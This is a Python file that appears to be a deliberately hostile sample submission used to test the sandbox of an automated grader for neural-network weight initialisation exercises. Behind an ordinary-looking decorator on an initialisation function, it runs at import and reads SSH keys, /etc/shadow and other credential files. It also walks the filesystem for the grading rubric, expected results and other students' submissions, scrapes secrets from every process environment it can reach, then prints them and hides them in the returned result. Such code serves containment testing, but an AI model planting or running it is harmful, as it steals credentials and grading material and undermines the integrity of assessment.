"""Hostile: at import, looks for secrets: planted files (the tests plant some at these paths), the rubric,
expected results and other students' submissions anywhere it can walk, every environment variable it can see
(its own and those of other processes in /proc), and root's credentials. Whatever it finds it prints and returns
(an extra "leaked" entry in initialize_parameters_zeros's dict, which would cost the structure test). Contained by
the sandbox's filesystem (only the interpreter, the driver and this file exist), the scrubbed environment and the
pid namespace: it finds nothing, and its functions are correct."""
import os
import time

import numpy as np

PLANTED = ["/tmp/nn-grader-planted-secret.txt", "/var/tmp/nn-grader-planted-secret.txt", "/root/.nn-grader-planted-secret"]
CREDENTIALS = ["/root/.npmrc", "/root/.ssh/id_rsa", "/root/.bash_history", "/etc/shadow"]
ROOTS = ["/", "/root", "/home", "/tmp", "/var/tmp", "/work", "/srv", "/opt", "/mnt"]
SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/run", "/var/lib", "/var/cache"}
SKIP_NAMES = {"node_modules", ".git", ".pyenv", "__pycache__"}
MAX_DEPTH = 5
TIME_BUDGET_S = 2.0
leaked = {}


def _read(path):
    try:
        with open(path, "rb") as f:
            leaked[path] = f.read(2000).decode("utf-8", "replace")
    except OSError:
        pass


def _interesting(path, name):
    return ("planted-secret" in name or name == "initialization.yaml" or name.endswith(".expected.json")
            or (name.endswith(".py") and "/submissions/" in path))


def _walk(started):
    seen = set()
    for root in ROOTS:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() - started > TIME_BUDGET_S:
                return
            depth = folder.rstrip("/").count("/")
            dirs[:] = [d for d in dirs if d not in SKIP_NAMES and os.path.join(folder, d) not in SKIP and depth < MAX_DEPTH]
            for name in files:
                path = os.path.join(folder, name)
                if path not in seen and _interesting(path, name):
                    seen.add(path)
                    _read(path)


def _environment():
    for name, value in os.environ.items():
        if any(word in name for word in ("SECRET", "TOKEN", "KEY", "PASSWORD", "PLANTED")):
            leaked["env:" + name] = value
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open("/proc/%s/environ" % pid, "rb") as f:
                    for entry in f.read().split(b"\0"):
                        if b"PLANTED" in entry or b"SECRET" in entry:
                            leaked["proc:%s" % pid] = entry.decode("utf-8", "replace")
            except OSError:
                pass


# The grader runs only what the graded functions need: the attack runs in a decorator of one of them, so
# that it still happens while the submission is being loaded.
def _at_load(function):
    for path in PLANTED + CREDENTIALS:
        _read(path)
    _environment()
    _walk(time.monotonic())
    for where, what in sorted(leaked.items()):
        print("LEAKED %s: %s" % (where, what[:300]))
    return function


@_at_load
def initialize_parameters_zeros(layers_dims):
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    if leaked:
        parameters['leaked'] = sorted(leaked.items())
    return parameters


def initialize_parameters_random(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * 10
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_he(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters
